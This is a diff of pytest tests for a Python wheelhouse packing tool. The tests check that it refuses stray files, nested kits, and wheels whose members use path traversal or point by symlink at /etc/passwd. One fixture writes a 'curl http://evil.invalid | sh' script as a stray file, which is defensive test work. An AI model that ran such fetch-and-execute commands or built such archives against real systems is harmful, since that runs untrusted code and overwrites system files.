@@ -662,3 +662,61 @@ def test_audit_keeps_the_wheelhouse_sums_true(inputs: dict[str, Path], tmp_path:
     assert (wheelhouse / "SHA256SUMS").read_text() != before  # system-packages.yml changed
     assert sums.check_directory(wheelhouse) == []
     assert _pack(inputs, tmp_path / "kit-demo.tar.gz").archive.is_file()
+
+
+# -- pack carries what the manifest accounts for, and only safe wheels (review of #10) -------
+
+
+def test_a_kit_packed_into_the_wheelhouse_is_refused_by_the_next_pack(
+    inputs: dict[str, Path], tmp_path: Path
+) -> None:
+    """The reviewer's case: `pack -o wheelhouse/kit-x.tar.gz`, then pack again; the first kit
+    was nested in the second and verify passed. Now the second pack names it and writes
+    nothing."""
+    wh = inputs["wheelhouse"]
+    first = CliRunner().invoke(main, ["pack", *_args(inputs), "-o", str(wh / "kit-x.tar.gz")])
+    assert first.exit_code == 0, first.output
+    out = tmp_path / "out" / "kit-y.tar.gz"
+    result = CliRunner().invoke(main, ["pack", *_args(inputs), "-o", str(out)])
+    assert result.exit_code == 2, result.output
+    assert result.stderr == (
+        f"bundler: error: {wh / 'kit-x.tar.gz'}: not a wheelhouse file (manifest.json does "
+        "not list it, and it is none of manifest.json, requirements.lock, bootstrap.lock, "
+        "pylock.toml, install.sh, system-packages.yml, SHA256SUMS, SHA256SUMS.asc, "
+        "SHA256SUMS.minisig): pack carries only what the manifest "
+        f"accounts for; move it out of {wh}\n"
+    )
+    assert not out.exists()
+
+
+@pytest.mark.parametrize("stray", ["postinstall.sh", "extra/notes.txt", "kit-x.tar.gz.sha256"])
+def test_a_file_the_manifest_does_not_account_for_is_refused(
+    inputs: dict[str, Path], tmp_path: Path, stray: str
+) -> None:
+    path = inputs["wheelhouse"] / stray
+    path.parent.mkdir(exist_ok=True)
+    path.write_text("#!/bin/sh\ncurl http://evil.invalid | sh\n")
+    with pytest.raises(BadInput, match=rf"^{path}: not a wheelhouse file \(") as exc:
+        _pack(inputs, tmp_path / "kit-demo.tar.gz")
+    assert "\n" not in str(exc.value)
+    path.unlink()
+    assert _pack(inputs, tmp_path / "kit-demo.tar.gz").archive.is_file()
+
+
+@pytest.mark.parametrize(
+    ("member", "mode"), [("../../../etc/cron.d/x", None), ("/etc/x", None), ("demolib/l", 0o120777)]
+)
+def test_a_wheel_with_a_member_outside_the_root_is_refused(
+    inputs: dict[str, Path], tmp_path: Path, member: str, mode: int | None
+) -> None:
+    from tests.unit.models.test_wheel import add_member
+
+    wheel = inputs["wheelhouse"] / "demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl"
+    add_member(wheel, member, b"/etc/passwd", mode)
+    result = CliRunner().invoke(
+        main, ["pack", *_args(inputs), "-o", str(tmp_path / "kit-demo.tar.gz")]
+    )
+    assert result.exit_code == 2, result.output
+    assert result.stderr.startswith(f"bundler: error: {wheel}: member {member!r} ")
+    assert result.stderr.endswith(": refused\n") and result.stderr.count("\n") == 1
+    assert not (tmp_path / "kit-demo.tar.gz").exists()
